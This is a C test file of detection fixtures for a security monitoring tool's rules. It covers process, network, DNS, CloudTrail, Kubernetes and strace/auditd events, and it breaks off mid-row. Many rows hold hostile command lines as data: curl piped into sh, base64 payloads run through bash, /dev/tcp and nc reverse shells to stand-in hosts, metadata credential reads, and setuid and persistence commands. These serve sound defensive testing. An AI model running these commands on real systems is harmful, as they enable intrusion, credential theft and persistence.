/* test-rule-fixtures: every shipped rule (rules/) fires on a small event that shows what it is
 * about and stays quiet on a near miss — one table, {rule, fires?, evidence kind, event}.
 *
 * Each row becomes one evidence file (fx-NNN.*) in the evidence's own format where a fixture is
 * easy to write by hand (CloudTrail records, Kubernetes audit events, strace and auditd lines —
 * the GuardDuty tester's own trigger commands among them), else as a timeline JSONL event with
 * the fields the host and network importers write (sys-model.h, net-dns.c). All files go into
 * one case, the shipped rules run once (with a user file that fills the empty indicator lists
 * and enables the one rule shipped disabled, the way the README tells a user to), and each row's
 * file must carry an alert of its rule, or none. Every shipped rule must have at least one row
 * of each kind. In fixture text a single quote stands for a double quote.
 */
#include <criterion/criterion.h>
#include <jansson.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "testutil.h"

enum kind { SYS, NET, CT, K8S, STRACE, AUDIT };

struct fixture {
	const char *rule;
	bool fires;
	enum kind kind;
	const char *text;
};

/* syscall events: the columns and fields sys-model writes */
#define EXEC(name, exe, cmdline) "'type':'execve','proc_name':'" name "','exe':'" exe "','cmdline':'" cmdline "','result':'0'"
#define OPENW(proc, path) \
	"'type':'openat','proc_name':'" proc "','fd_name':'" path "','result':'3','fields':{'evt.arg.flags':'O_WRONLY|O_CREAT|O_TRUNC','evt.is_open_write':true,'evt.is_open_read':false,'fd.typechar':'f'}"
#define OPENR(proc, path) \
	"'type':'openat','proc_name':'" proc "','fd_name':'" path "','result':'3','fields':{'evt.arg.flags':'O_RDONLY|O_CLOEXEC','evt.is_open_write':false,'evt.is_open_read':true,'fd.typechar':'f'}"
#define CONN(proc, ip, port) \
	"'type':'connect','proc_name':'" proc "','cmdline':'" proc "','src_ip':'10.0.0.5','src_port':40000,'dst_ip':'" ip "','dst_port':" port ",'l4proto':'tcp','fd_name':'10.0.0.5:40000->" ip ":" port "','result':'0','fields':{'fd.typechar':'4'}"
/* network events */
#define DNS(q, answers) \
	"'type':'dns','src_ip':'10.0.0.5','src_port':40001,'dst_ip':'10.0.0.2','dst_port':53,'l4proto':'udp','fields':{'dns.query':'" q "','dns.qtype':'A','dns.answers':[" answers "]}"
#define FLOW(ip) "'type':'conn','src_ip':'10.0.0.5','src_port':40002,'dst_ip':'" ip "','dst_port':443,'l4proto':'tcp'"
/* CloudTrail record bodies */
#define CT_ALICE \
	"'userIdentity':{'type':'IAMUser','principalId':'AIDAEXAMPLE','arn':'arn:aws:iam::111122223333:user/alice','accountId':'111122223333','accessKeyId':'AKIAEXAMPLEKEY000001','userName':'alice'},'sourceIPAddress':'198.51.100.10','userAgent':'aws-cli/2.13.0 Python/3.11.4 Linux/6.1.0 exe/x86_64.ubuntu.22',"
#define CT_ROOT \
	"'userIdentity':{'type':'Root','principalId':'111122223333','arn':'arn:aws:iam::111122223333:root','accountId':'111122223333','accessKeyId':'AKIAROOTKEY000000001'},'sourceIPAddress':'198.51.100.10','userAgent':'aws-cli/2.13.0',"
#define CT_CALL(src, name) "'eventSource':'" src ".amazonaws.com','eventName':'" name "','managementEvent':true,'eventCategory':'Management',"
#define CT_FROM(ip) \
	"'userIdentity':{'type':'IAMUser','principalId':'AIDAEXAMPLE','arn':'arn:aws:iam::111122223333:user/alice','accountId':'111122223333','accessKeyId':'AKIAEXAMPLEKEY000001','userName':'alice'},'sourceIPAddress':'" ip "','userAgent':'aws-cli/2.13.0',"
#define CT_S3DATA(name, ro) \
	"'eventSource':'s3.amazonaws.com','eventName':'" name "','managementEvent':false,'eventCategory':'Data','readOnly':" ro ",'requestParameters':{'bucketName':'finance','key':'q3.xlsx'}"
#define CT_INSTANCE(ip) \
	"'userIdentity':{'type':'AssumedRole','principalId':'AROAEXAMPLE:i-0abc123def4567890','arn':'arn:aws:sts::111122223333:assumed-role/web-role/i-0abc123def4567890','accountId':'111122223333','accessKeyId':'ASIAEXAMPLEKEY000001','sessionContext':{'sessionIssuer':{'type':'Role','arn':'arn:aws:iam::111122223333:role/web-role','userName':'web-role'},'ec2RoleDelivery':'2.0'}},'sourceIPAddress':'" ip "','userAgent':'aws-cli/2.13.0',"
#define CT_FAILED "'errorCode':'AccessDenied','errorMessage':'not authorized',"
/* bob: a principal first seen at the fixtures' time (22:13:20), then seen again later */
#define CT_BOB(ua) \
	"'userIdentity':{'type':'IAMUser','principalId':'AIDABOB','arn':'arn:aws:iam::111122223333:user/bob','accountId':'111122223333','accessKeyId':'AKIAEXAMPLEKEY0000B0','userName':'bob'},'sourceIPAddress':'198.51.100.20','userAgent':'" ua "',"
#define CT_AT(hms) "'eventTime':'2023-11-14T" hms "Z',"
/* an ECS task's role session (named by the task id) */
#define CT_TASK(ip) \
	"'userIdentity':{'type':'AssumedRole','principalId':'AROATASK:0f3c9a1e5b7d4c2a8e6f1b3d5c7a9e0f','arn':'arn:aws:sts::111122223333:assumed-role/web-task/0f3c9a1e5b7d4c2a8e6f1b3d5c7a9e0f','accountId':'111122223333','accessKeyId':'ASIAEXAMPLEKEY0000T1','sessionContext':{'sessionIssuer':{'type':'Role','arn':'arn:aws:iam::111122223333:role/web-task','userName':'web-task'}}},'sourceIPAddress':'" ip "','userAgent':'aws-sdk-php/3.300.0',"
/* Kubernetes audit event bodies */
#define KA(verb, user, resource, ns, name, sub, code) \
	"'verb':'" verb "','user':{'username':'" user "','groups':['system:authenticated']},'sourceIPs':['192.0.2.50'],'objectRef':{'resource':'" resource "','namespace':'" ns "','name':'" name "'" sub ",'apiVersion':'v1'},'responseStatus':{'code':" code "},'requestURI':'/api/v1/namespaces/" ns "/" resource "/" name "'"
#define KA_FROM(verb, ip, code) \
	"'verb':'" verb "','user':{'username':'bob','groups':['system:authenticated']},'sourceIPs':['" ip "'],'objectRef':{'resource':'configmaps','namespace':'default','name':'cfg','apiVersion':'v1'},'responseStatus':{'code':" code "},'requestURI':'/api/v1/namespaces/default/configmaps/cfg'"
#define POD(priv, hostpath) \
	",'requestObject':{'kind':'Pod','apiVersion':'v1','metadata':{'name':'p'},'spec':{'containers':[{'name':'c','image':'alpine','securityContext':{'privileged':" priv "}}],'volumes':[{'name':'v','hostPath':{'path':'" hostpath "'}}]}}"
#define BINDING(kind, role, skind, sname) \
	",'requestObject':{'kind':'" kind "','apiVersion':'rbac.authorization.k8s.io/v1','metadata':{'name':'b'},'roleRef':{'apiGroup':'rbac.authorization.k8s.io','kind':'ClusterRole','name':'" role "'},'subjects':[{'kind':'" skind "','name':'" sname "','namespace':'default'}]}"
#define SERVICE(type) ",'requestObject':{'kind':'Service','apiVersion':'v1','metadata':{'name':'s'},'spec':{'type':'" type "','ports':[{'port':443}]}}"
/* strace -f -ttt lines and auditd records */
#define ST(pid, t, call) #pid " 1700000000." t " " call "\n"
#define AU(n, sc, a0, a1, comm, exe, auid) \
	"type=SYSCALL msg=audit(1700000000.000:" n "): arch=c000003e syscall=" sc " success=yes exit=0 a0=" a0 " a1=" a1 \
	" a2=0 a3=0 items=0 ppid=1 pid=300 auid=" auid " uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=2 comm=\"" comm \
	"\" exe=\"" exe "\" key=(null)\ntype=EOE msg=audit(1700000000.000:" n "): \n"

#define AU_EXEC(n, uid, euid, comm, exe) \
	"type=SYSCALL msg=audit(1700000000.000:" n "): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0" \
	" items=1 ppid=1 pid=310 auid=1000 uid=" uid " gid=1000 euid=" euid " suid=" euid " fsuid=" euid \
	" egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=2 comm=\"" comm "\" exe=\"" exe "\" key=(null)\n" \
	"type=EXECVE msg=audit(1700000000.000:" n "): argc=1 a0=\"" comm "\"\n" \
	"type=PATH msg=audit(1700000000.000:" n "): item=0 name=\"" exe "\" inode=1 dev=08:01 mode=0104755 ouid=0 ogid=0" \
	" rdev=00:00 nametype=NORMAL\n" \
	"type=EOE msg=audit(1700000000.000:" n "): \n"

static const struct fixture fixtures[] = {
	/* --- runtime: processes --- */
	{ "Crypto miner executed", 1, SYS, EXEC("xmrig", "/opt/xmrig", "xmrig -o pool.supportxmr.com:443 -u 4AbC") },
	{ "Crypto miner executed", 1, SYS, EXEC("kthreadd2", "/var/tmp/.k", "kthreadd2 -o stratum+tcp://198.51.100.7:3333") },
	{ "Crypto miner executed", 0, SYS, EXEC("curl", "/usr/bin/curl", "curl https://example.com/stratum-protocol-notes") },
	{ "Download piped into a shell", 1, SYS, EXEC("sh", "/bin/sh", "sh -c curl -s http://203.0.113.9/x.sh | sh") },
	{ "Download piped into a shell", 0, SYS, EXEC("sh", "/bin/sh", "sh -c curl -s -o /tmp/x.sh http://203.0.113.9/x.sh") },
	{ "Encoded payload decoded into a shell", 1, SYS, EXEC("bash", "/bin/bash", "bash -c echo aWQK | base64 -d | bash") },
	{ "Encoded payload decoded into a shell", 0, SYS, EXEC("sh", "/bin/sh", "sh -c base64 -d key.b64 > key.der") },
	{ "Binary executed from a temporary directory", 1, SYS, EXEC("kworker", "/tmp/.x/kworker", "kworker") },
	{ "Binary executed from a temporary directory", 0, SYS, EXEC("tmpreaper", "/usr/sbin/tmpreaper", "tmpreaper 240 /tmp") },
	{ "Shared library loaded from a temporary directory", 1, SYS, OPENR("ls", "/dev/shm/libhide.so") },
	{ "Shared library loaded from a temporary directory", 1, SYS, EXEC("sh", "/bin/sh", "sh -c LD_PRELOAD=/tmp/h.so ls") },
	{ "Shared library loaded from a temporary directory", 0, SYS, OPENR("ls", "/usr/lib/x86_64-linux-gnu/libc.so.6") },
	{ "Shared library loaded from a temporary directory", 0, SYS, OPENW("cc", "/tmp/build/libfoo.so") },
	{ "Fileless execution", 1, SYS,
	  "'type':'execveat','proc_name':'3','exe':'memfd:payload (deleted)','cmdline':'3','result':'0','fields':{'evt.arg.filename':''}" },
	{ "Fileless execution", 1, SYS,
	  "'type':'execve','proc_name':'x','exe':'/bin/x','cmdline':'x','result':'0','fields':{'evt.arg.filename':'/proc/self/fd/5'}" },
	{ "Fileless execution", 0, SYS, EXEC("ls", "/usr/bin/ls", "ls /proc/self/fd/") },
	{ "Offensive security tool executed", 1, SYS, EXEC("linpeas.sh", "/tmp/linpeas.sh", "linpeas.sh -a") },
	{ "Offensive security tool executed", 0, SYS, EXEC("lsof", "/usr/bin/lsof", "lsof -i") },
	{ "Dual-use tool executed", 1, SYS, EXEC("nmap", "/usr/bin/nmap", "nmap -sS 10.0.0.0/24") },
	{ "Dual-use tool executed", 0, SYS, EXEC("nmcli", "/usr/bin/nmcli", "nmcli device status") },
	{ "Shell spawned by a network service", 1, SYS,
	  "'type':'execve','proc_name':'sh','exe':'/bin/sh','cmdline':'sh -c id','result':'0','fields':{'proc.pname':'php-fpm'}" },
	{ "Shell spawned by a network service", 0, SYS,
	  "'type':'execve','proc_name':'bash','exe':'/bin/bash','cmdline':'bash','result':'0','fields':{'proc.pname':'sshd'}" },
	{ "Shell spawned by a network service", 0, SYS,
	  "'type':'execve','proc_name':'php','exe':'/usr/bin/php','cmdline':'php index.php','result':'0','fields':{'proc.pname':'nginx'}" },

	/* --- runtime: reverse shells (the tester's /dev/tcp shell, strace -f -ttt) --- */
	{ "Shell stream redirected to a network connection", 1, SYS,
	  "'type':'dup2','proc_name':'bash','cmdline':'bash -i','src_ip':'10.0.0.5','src_port':40000,'dst_ip':'203.0.113.5','dst_port':4444,'l4proto':'tcp','fd_name':'10.0.0.5:40000->203.0.113.5:4444','result':'1','fields':{'evt.rawres':1,'fd.typechar':'4'}" },
	{ "Shell stream redirected to a network connection", 0, SYS,
	  "'type':'dup2','proc_name':'bash','cmdline':'bash','fd_name':'pipe:[4242]','result':'1','fields':{'evt.rawres':1,'fd.typechar':'p'}" },
	{ "Shell stream redirected to a network connection", 0, SYS,
	  "'type':'dup2','proc_name':'nginx','cmdline':'nginx','src_ip':'10.0.0.5','src_port':40000,'dst_ip':'203.0.113.5','dst_port':443,'l4proto':'tcp','fd_name':'10.0.0.5:40000->203.0.113.5:443','result':'7','fields':{'evt.rawres':7,'fd.typechar':'4'}" },
	{ "Reverse shell command line", 1, STRACE,
	  ST(100, "000001", "execve(\"/bin/bash\", [\"bash\", \"-c\", \"bash -i >& /dev/tcp/127.0.0.1/1337 0>&1\"], 0x7ffd0 /* 20 vars */) = 0")
	  ST(100, "000002", "socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 3")
	  ST(100, "000003", "connect(3, {sa_family=AF_INET, sin_port=htons(1337), sin_addr=inet_addr(\"127.0.0.1\")}, 16) = 0")
	  ST(100, "000004", "dup2(3, 1) = 1")
	  ST(100, "000005", "close(3) = 0")
	  ST(100, "000006", "dup2(1, 2) = 2")
	  ST(100, "000007", "dup2(1, 0) = 0") },
	{ "Shell stream redirected to a network connection", 1, STRACE,
	  ST(101, "000001", "execve(\"/bin/bash\", [\"bash\", \"-i\"], 0x7ffd0 /* 20 vars */) = 0")
	  ST(101, "000002", "socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 3")
	  ST(101, "000003", "connect(3, {sa_family=AF_INET, sin_port=htons(1337), sin_addr=inet_addr(\"127.0.0.1\")}, 16) = 0")
	  ST(101, "000004", "dup2(3, 0) = 0") },
	{ "Reverse shell command line", 1, SYS, EXEC("nc", "/usr/bin/nc", "nc 203.0.113.5 4444 -e /bin/sh") },
	{ "Reverse shell command line", 0, SYS, EXEC("nc", "/usr/bin/nc", "nc -zv 10.0.0.1 22") },
	{ "Reverse shell command line", 0, SYS, EXEC("ls", "/usr/bin/ls", "ls /dev/tcp") },

	/* --- runtime: commands --- */
	{ "Environment or instance credentials read", 1, SYS,
	  EXEC("curl", "/usr/bin/curl", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/") },
	{ "Environment or instance credentials read", 0, SYS, EXEC("cat", "/bin/cat", "cat /proc/cpuinfo") },
	{ "Privilege and cloud reconnaissance command", 1, SYS, EXEC("find", "/usr/bin/find", "find / -perm -4000 -type f") },
	{ "Privilege and cloud reconnaissance command", 1, SYS, EXEC("kubectl", "/usr/local/bin/kubectl", "kubectl auth can-i --list") },
	{ "Privilege and cloud reconnaissance command", 0, SYS, EXEC("find", "/usr/bin/find", "find / -name *.log") },
	{ "Persistence installed by command", 1, SYS, EXEC("systemctl", "/usr/bin/systemctl", "systemctl enable evil.service") },
	{ "Persistence installed by command", 1, SYS, EXEC("crontab", "/usr/bin/crontab", "crontab /tmp/c") },
	{ "Persistence installed by command", 0, SYS, EXEC("systemctl", "/usr/bin/systemctl", "systemctl status nginx") },
	{ "Persistence installed by command", 0, SYS, EXEC("crontab", "/usr/bin/crontab", "crontab -l") },
	{ "Persistence installed by command", 0, SYS,
	  "'type':'execve','proc_name':'systemctl','exe':'/usr/bin/systemctl','cmdline':'systemctl enable nginx.service','result':'0','fields':{'proc.aname':['sh','dpkg','apt-get']}" },
	{ "Privilege escalation command", 1, SYS, EXEC("chmod", "/bin/chmod", "chmod u+s /bin/bash") },
	{ "Privilege escalation command", 1, SYS, EXEC("chmod", "/bin/chmod", "chmod 4755 /tmp/sh") },
	{ "Privilege escalation command", 1, SYS, EXEC("usermod", "/usr/sbin/usermod", "usermod -aG sudo mallory") },
	{ "Privilege escalation command", 0, SYS, EXEC("chmod", "/bin/chmod", "chmod 644 /etc/motd") },
	{ "Privilege escalation command", 0, SYS, EXEC("usermod", "/usr/sbin/usermod", "usermod -s /bin/zsh alice") },
	{ "Security tooling or history disabled by command", 1, SYS, EXEC("iptables", "/usr/sbin/iptables", "iptables -F") },
	{ "Security tooling or history disabled by command", 1, SYS, EXEC("systemctl", "/usr/bin/systemctl", "systemctl stop auditd") },
	{ "Security tooling or history disabled by command", 1, SYS, EXEC("bash", "/bin/bash", "bash -c unset HISTFILE; id") },
	{ "Security tooling or history disabled by command", 0, SYS, EXEC("iptables", "/usr/sbin/iptables", "iptables -L -n") },
	{ "Security tooling or history disabled by command", 0, SYS, EXEC("systemctl", "/usr/bin/systemctl", "systemctl stop nginx") },

	/* --- runtime: sensitive files (open for write, rename, link, symlink, unlink) --- */
	{ "Shell history or logs tampered with", 1, SYS,
	  "'type':'unlink','proc_name':'rm','cmdline':'rm -f /var/log/auth.log','result':'0','fields':{'evt.arg.path':'/var/log/auth.log'}" },
	{ "Shell history or logs tampered with", 1, SYS, OPENW("python3", "/root/.bash_history") },
	{ "Shell history or logs tampered with", 1, SYS, OPENW("bash", "/var/log/wtmp") },
	{ "Shell history or logs tampered with", 0, SYS, OPENW("bash", "/root/.bash_history") },
	{ "Shell history or logs tampered with", 0, SYS,
	  "'type':'openat','proc_name':'nginx','fd_name':'/var/log/nginx/access.log','result':'3','fields':{'evt.arg.flags':'O_WRONLY|O_CREAT|O_APPEND','evt.is_open_write':true,'evt.is_open_read':false,'fd.typechar':'f'}" },
	{ "Shell history or logs tampered with", 1, SYS,
	  "'type':'symlinkat','proc_name':'ln','cmdline':'ln -sf /dev/null .bash_history','cwd':'/home/alice','result':'0','fields':{'evt.arg.target':'/dev/null','evt.arg.linkpath':'/home/alice/.bash_history'}" },
	{ "Shell history or logs tampered with", 0, SYS, OPENW("rsyslogd", "/var/log/syslog") },
	{ "Shell history or logs tampered with", 0, SYS, OPENR("less", "/var/log/auth.log") },
	{ "Persistence file changed", 1, SYS, OPENW("bash", "/etc/cron.d/backdoor") },
	{ "Persistence file changed", 1, SYS,
	  "'type':'rename','proc_name':'mv','cmdline':'mv k /root/.ssh/authorized_keys','result':'0','fields':{'evt.arg.oldpath':'/tmp/k','evt.arg.newpath':'/root/.ssh/authorized_keys'}" },
	{ "Persistence file changed", 1, SYS,
	  "'type':'unlinkat','proc_name':'rm','cmdline':'rm passwd','cwd':'/etc','result':'0','fields':{'evt.arg.name':'passwd'}" },
	{ "Persistence file changed", 0, SYS, OPENW("passwd", "/etc/shadow") },
	{ "Persistence file changed", 0, SYS, OPENW("vim", "/etc/crontab.notes/x") },
	{ "Privilege configuration file changed", 1, SYS, OPENW("tee", "/etc/sudoers.d/90-backdoor") },
	{ "Privilege configuration file changed", 1, SYS, OPENW("bash", "/etc/ld.so.preload") },
	{ "Privilege configuration file changed", 0, SYS, OPENW("visudo", "/etc/sudoers") },
	{ "Privilege configuration file changed", 0, SYS, OPENR("sudo", "/etc/sudoers") },

	/* --- runtime: escapes and privilege escalation (the tester's failing mount, nc -U docker.sock) --- */
	{ "Container runtime socket accessed", 1, STRACE,
	  ST(200, "000001", "execve(\"/usr/bin/nc\", [\"nc\", \"-U\", \"/var/run/docker.sock\"], 0x7ffd0 /* 9 vars */) = 0")
	  ST(200, "000002", "socket(AF_UNIX, SOCK_STREAM, 0) = 3")
	  ST(200, "000003", "connect(3, {sa_family=AF_UNIX, sun_path=\"/var/run/docker.sock\"}, 110) = -1 ENOENT (No such file or directory)") },
	{ "Container runtime socket accessed", 0, SYS,
	  "'type':'connect','proc_name':'docker','cmdline':'docker ps','fd_name':'/var/run/docker.sock','l4proto':'unix','result':'0','container_id':'host','fields':{'fd.typechar':'u'}" },
	{ "Container runtime socket accessed", 0, SYS,
	  "'type':'connect','proc_name':'nc','cmdline':'nc -U /run/systemd/private','fd_name':'/run/systemd/private','l4proto':'unix','result':'0','fields':{'fd.typechar':'u'}" },
	{ "Container runtime binary overwritten", 1, SYS, OPENW("exploit", "/usr/bin/runc") },
	{ "Container runtime binary overwritten", 1, SYS, OPENW("exploit", "/proc/self/exe") },
	{ "Container runtime binary overwritten", 0, SYS, OPENR("exploit", "/usr/bin/runc") },
	{ "Container runtime binary overwritten", 0, SYS, OPENW("dpkg", "/usr/bin/runc") },
	{ "Cgroup release agent modified", 1, SYS, OPENW("sh", "/tmp/cgrp/release_agent") },
	{ "Cgroup release agent modified", 0, SYS, OPENR("cat", "/sys/fs/cgroup/rdma/release_agent") },
	{ "Host device mounted", 1, STRACE,
	  ST(300, "000001", "execve(\"/usr/bin/mount\", [\"mount\", \"/dev/nvme0n1p1\", \"/mnt/host\"], 0x7ffd0 /* 9 vars */) = 0")
	  ST(300, "000002", "mount(\"/dev/nvme0n1p1\", \"/mnt/host\", \"ext4\", 0, NULL) = -1 EPERM (Operation not permitted)") },
	{ "Host device mounted", 0, SYS,
	  "'type':'mount','proc_name':'mount','cmdline':'mount -t proc proc /proc','result':'0','fields':{'evt.arg.dev':'proc','evt.arg.dir':'/proc','evt.arg.type':'proc'}" },
	{ "Host device mounted", 0, SYS,
	  "'type':'mount','proc_name':'systemd','cmdline':'systemd','result':'0','fields':{'evt.arg.dev':'/dev/sda1','evt.arg.dir':'/boot'}" },
	{ "Userfaultfd used", 1, SYS, "'type':'userfaultfd','proc_name':'exploit','cmdline':'exploit','result':'3'" },
	{ "Userfaultfd used", 0, SYS, OPENR("exploit", "/dev/null") },

	/* --- runtime: injection, anti-debugging, kernel modules --- */
	{ "Process memory written through proc", 1, SYS, OPENW("inject", "/proc/1234/mem") },
	{ "Process memory written through proc", 0, SYS, OPENR("inject", "/proc/1234/mem") },
	{ "Process memory written through proc", 0, SYS, OPENW("gdb", "/proc/1234/mem") },
	{ "Process memory written through ptrace", 1, AUDIT, AU("1", "101", "5", "4d2", "inject", "/tmp/inject", "1000") },
	{ "Process memory written through ptrace", 0, AUDIT, AU("2", "101", "2", "4d2", "inject", "/tmp/inject", "1000") },
	{ "Process memory written through ptrace", 0, SYS,
	  "'type':'ptrace','proc_name':'gdb','cmdline':'gdb -p 1234','result':'0','fields':{'evt.arg.request':'PTRACE_POKETEXT'}" },
	{ "Process memory written through process_vm_writev", 1, SYS, "'type':'process_vm_writev','proc_name':'inject','cmdline':'inject 1234','result':'64'" },
	{ "Process memory written through process_vm_writev", 0, SYS, "'type':'process_vm_readv','proc_name':'inject','cmdline':'inject 1234','result':'64'" },
	{ "Ptrace anti-debugging", 1, STRACE,
	  ST(400, "000001", "execve(\"/tmp/antidbg\", [\"antidbg\"], 0x7ffd0 /* 9 vars */) = 0")
	  ST(400, "000002", "ptrace(PTRACE_TRACEME) = -1 EPERM (Operation not permitted)") },
	{ "Ptrace anti-debugging", 0, SYS,
	  "'type':'ptrace','proc_name':'dbg','cmdline':'dbg','result':'0','fields':{'evt.arg.request':'PTRACE_ATTACH','evt.arg.pid':1234}" },
	{ "Kernel module loaded", 1, AUDIT, AU("3", "313", "3", "0", "insmod", "/usr/bin/kmod", "1000") },
	{ "Kernel module loaded", 1, SYS, EXEC("insmod", "/usr/sbin/insmod", "insmod /tmp/diamorphine.ko") },
	{ "Kernel module loaded", 0, AUDIT, AU("4", "313", "3", "0", "modprobe", "/usr/bin/kmod", "4294967295") },
	{ "Kernel module loaded", 0, SYS, EXEC("modprobe", "/usr/sbin/modprobe", "modprobe -r dummy") },

	{ "Setuid program elevated to root", 1, AUDIT, AU_EXEC("5", "1000", "0", "rootsh", "/tmp/rootsh") },
	{ "Setuid program elevated to root", 0, AUDIT, AU_EXEC("6", "1000", "0", "sudo", "/usr/bin/sudo") },
	{ "Setuid program elevated to root", 0, AUDIT, AU_EXEC("7", "1000", "1000", "rootsh", "/tmp/rootsh") },

	/* --- runtime: indicator lists over connect() --- */
	{ "Connection to a command and control address (syscall)", 1, SYS, CONN("beacon", "203.0.113.66", "443") },
	{ "Connection to a command and control address (syscall)", 0, SYS, CONN("beacon", "203.0.113.70", "443") },
	{ "Connection to a cryptocurrency mining address (syscall)", 1, SYS, CONN("xm", "203.0.113.67", "3333") },
	{ "Connection to a cryptocurrency mining address (syscall)", 0, SYS, CONN("xm", "203.0.113.70", "3333") },
	{ "Connection to a drop point address (syscall)", 1, SYS, CONN("curl", "203.0.113.68", "443") },
	/* from the user's feeds in STIX 2.1, MISP CSV and abuse.ch CSV (`--lists` reads them all) */
	{ "Connection to a command and control address (syscall)", 1, SYS, CONN("beacon", "203.0.113.166", "443") },
	{ "Connection to a cryptocurrency mining address (syscall)", 1, SYS, CONN("xm", "203.0.113.167", "3333") },
	{ "Connection to a drop point address (syscall)", 1, SYS, CONN("curl", "203.0.113.168", "443") },
	{ "Connection to a drop point address (syscall)", 0, SYS, CONN("curl", "203.0.113.169", "443") },
	{ "Connection to a drop point address (syscall)", 0, SYS, CONN("curl", "203.0.113.70", "443") },
	{ "Connection to a blackhole address (syscall)", 1, SYS, CONN("curl", "203.0.113.69", "80") },
	{ "Connection to a blackhole address (syscall)", 0, SYS, CONN("curl", "203.0.113.70", "80") },
	{ "Tor client connection", 1, SYS, CONN("tor", "198.51.100.99", "9001") },
	{ "Tor client connection", 1, SYS, CONN("curl", "171.25.193.9", "443") },
	{ "Tor client connection", 1, SYS, CONN("curl", "198.51.100.201", "443") }, /* from the user's exit list */
	{ "Tor client connection", 0, SYS, CONN("curl", "93.184.216.34", "443") },
	{ "Tor relay accepting connections", 1, SYS,
	  "'type':'accept4','proc_name':'tor','cmdline':'tor -f /etc/tor/torrc','src_ip':'198.51.100.4','src_port':51000,'dst_ip':'10.0.0.5','dst_port':9001,'l4proto':'tcp','result':'7','fields':{'fd.typechar':'4'}" },
	{ "Tor relay accepting connections", 0, SYS,
	  "'type':'accept4','proc_name':'nginx','cmdline':'nginx','src_ip':'198.51.100.4','src_port':51000,'dst_ip':'10.0.0.5','dst_port':443,'l4proto':'tcp','result':'7','fields':{'fd.typechar':'4'}" },

	/* --- network: the GuardDuty tester's self-test domains and the lists --- */
	{ "DNS query for a command and control domain", 1, NET, DNS("c2.guarddutyc2activityb.com", "") },
	{ "DNS query for a command and control domain", 1, NET, DNS("C2.GuardDutyC2ActivityB.com", "'203.0.113.1'") },
	{ "DNS query for a command and control domain", 0, NET, DNS("c2.guarddutyc2activityb.com.example.net", "") },
	{ "DNS query for a cryptocurrency mining domain", 1, NET, DNS("pool.supportxmr.com", "") },
	{ "DNS query for a cryptocurrency mining domain", 1, NET, DNS("crypto.guarddutyc2activityb.com", "") },
	{ "DNS query for a cryptocurrency mining domain", 0, NET, DNS("supportxmr.com.example.net", "") },
	{ "DNS query for a drop point domain", 1, NET, DNS("guarddutydroppointactivity.com", "") },
	{ "DNS query for a drop point domain", 0, NET, DNS("example.com", "") },
	{ "DNS query for a DGA domain", 1, NET, DNS("guarddutydgaactivity.com", "") },
	{ "DNS query for a DGA domain", 0, NET, DNS("example.org", "") },
	{ "DNS query for a drive-by download domain", 1, NET, DNS("guarddutydrivebyactivity.com", "") },
	{ "DNS query for a drive-by download domain", 0, NET, DNS("www.example.com", "") },
	{ "DNS query for a phishing domain", 1, NET, DNS("guarddutyphishingactivity.com", "") },
	{ "DNS query for a phishing domain", 0, NET, DNS("mail.example.com", "") },
	{ "DNS query for an abused domain", 1, NET, DNS("abused-rep.guarddutyc2activityb.com", "") },
	{ "DNS query for an abused domain", 0, NET, DNS("api.example.com", "") },
	{ "DNS query for a low-reputation cryptocurrency domain", 1, NET, DNS("crypto-rep.guarddutyc2activityb.com", "") },
	{ "DNS query for a low-reputation cryptocurrency domain", 0, NET, DNS("cdn.example.com", "") },
	{ "DNS query for a low-reputation malicious domain", 1, NET, DNS("malicious-rep.guarddutyc2activityb.com", "") },
	{ "DNS query for a low-reputation malicious domain", 0, NET, DNS("static.example.com", "") },
	{ "DNS query for a suspicious low-reputation domain", 1, NET, DNS("suspicious-rep.guarddutyc2activityb.com", "") },
	{ "DNS query for a suspicious low-reputation domain", 0, NET, DNS("img.example.com", "") },
	{ "DNS answer on a blackhole address", 1, NET, DNS("guarddutyblackholeactivity.com", "") },
	{ "DNS answer on a blackhole address", 1, NET, DNS("sinkholed.example.net", "'203.0.113.69'") },
	{ "DNS answer on a blackhole address", 0, NET, DNS("fine.example.net", "'203.0.113.70'") },
	{ "DNS name rebound to the instance metadata service", 1, NET, DNS("rebind.attacker.example", "'169.254.169.254'") },
	{ "DNS name rebound to the instance metadata service", 0, NET, DNS("instance-data.ec2.internal", "'169.254.169.254'") },
	{ "DNS name rebound to the instance metadata service", 0, NET, DNS("rebind.attacker.example", "'203.0.113.8'") },
	{ "Connection to a command and control address", 1, NET, FLOW("203.0.113.66") },
	{ "Connection to a command and control address", 0, NET, FLOW("203.0.113.70") },
	{ "Connection to a cryptocurrency mining address", 1, NET, FLOW("203.0.113.67") },
	{ "Connection to a cryptocurrency mining address", 0, NET, FLOW("203.0.113.71") },
	{ "Connection to a drop point address", 1, NET, FLOW("203.0.113.68") },
	{ "Connection to a drop point address", 0, NET, FLOW("203.0.113.72") },
	{ "Connection to a blackhole address", 1, NET, FLOW("203.0.113.69") },
	{ "Connection to a blackhole address", 0, NET, FLOW("203.0.113.73") },
	{ "Tor client connection (network)", 1, NET, FLOW("199.58.81.140") },
	{ "Tor client connection (network)", 0, NET, FLOW("199.58.81.141") },

	/* --- CloudTrail --- */
	{ "CloudTrail logging disabled", 1, CT, CT_ALICE CT_CALL("cloudtrail", "StopLogging") "'requestParameters':{'name':'main'}" },
	{ "CloudTrail logging disabled", 0, CT, CT_ALICE CT_CALL("cloudtrail", "StopLogging") CT_FAILED "'requestParameters':{'name':'main'}" },
	{ "CloudTrail logging disabled", 0, CT, CT_ALICE CT_CALL("cloudtrail", "StartLogging") "'requestParameters':{'name':'main'}" },
	{ "Password policy weakened", 1, CT, CT_ALICE CT_CALL("iam", "UpdateAccountPasswordPolicy") "'requestParameters':{'minimumPasswordLength':6}" },
	{ "Password policy weakened", 0, CT, CT_ALICE CT_CALL("iam", "GetAccountPasswordPolicy") "'requestParameters':null" },
	{ "S3 server access logging disabled", 1, CT,
	  CT_ALICE CT_CALL("s3", "PutBucketLogging") "'requestParameters':{'bucketName':'logs','BucketLoggingStatus':{'xmlns':'http://s3.amazonaws.com/doc/2006-03-01/'}}" },
	{ "S3 server access logging disabled", 0, CT,
